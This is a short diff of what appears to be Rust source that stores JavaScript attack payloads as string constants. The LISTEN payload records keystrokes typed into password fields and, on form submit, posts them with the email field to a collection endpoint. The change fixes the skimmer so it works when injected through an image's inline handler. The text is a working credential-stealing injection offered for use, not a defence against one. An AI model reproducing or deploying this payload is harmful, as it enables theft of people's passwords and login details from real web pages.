@@ -45,12 +45,12 @@ const RIDE: &str = "(async()=>{\
 
 // #region listen
 /// Says first that it runs. Then it hears every key before the page's own form does, and sends what it heard along with the
-/// form.
+/// form. In an inline handler a bare `addEventListener` would be the image's own.
 const LISTEN: &str = "(()=>{\
     let keys='';\
     const home=o=>fetch('COLLECT',{method:'POST',mode:'no-cors',keepalive:true,body:JSON.stringify(o)});\
-    addEventListener('keydown',e=>{if(e.target.type=='password'&&e.key.length==1)keys+=e.key},true);\
-    addEventListener('submit',e=>home({keys,email:e.target.elements.email?.value}),true);\
+    window.addEventListener('keydown',e=>{if(e.target.type=='password'&&e.key.length==1)keys+=e.key},true);\
+    window.addEventListener('submit',e=>home({keys,email:e.target.elements.email?.value}),true);\
     home({listening:true})\
     })()";
 // #endregion listen
